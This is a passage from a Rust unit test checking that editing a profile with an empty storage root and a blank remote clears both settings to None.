        EditProfileRequest { gc_storage_root: Some(String::new()), gc_remote: Some(" ".into()), ..Default::default() };
    let p = b.edit_profile("lab", clear).await.unwrap();
    assert_eq!((p.gc.storage_root, p.gc.remote), (None, None));
}
